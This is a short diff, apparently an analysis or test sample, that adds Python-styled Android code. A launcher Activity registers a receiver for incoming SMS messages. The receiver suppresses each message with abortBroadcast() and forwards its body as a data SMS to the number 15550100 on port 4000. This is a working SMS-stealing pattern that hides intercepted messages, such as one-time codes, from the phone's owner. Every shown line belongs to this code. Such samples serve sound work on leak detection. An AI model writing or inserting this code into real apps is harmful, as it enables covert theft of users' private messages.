@@ -34,3 +34,18 @@ class Send(Runnable):
         self.text = text
     def run(self):
         SmsManager.getDefault().sendTextMessage("15550100", None, self.text, None, None)
+
+# also: from a receiver that only the code names, as data
+@launcher
+class Main(Activity):
+    def onCreate(self, state):
+        super().onCreate(state)
+        self.registerReceiver(Inbox(), IntentFilter("android.provider.Telephony.SMS_RECEIVED"))
+
+class Inbox(BroadcastReceiver):
+    def onReceive(self, context, intent):
+        message = Telephony_Sms_Intents.getMessagesFromIntent(intent)[0]
+        self.abortBroadcast()
+        self.forward(message.getMessageBody(), 4000)
+    def forward(self, text: String, port: short):
+        SmsManager.getDefault().sendDataMessage("15550100", None, port, text.getBytes(), None, None)
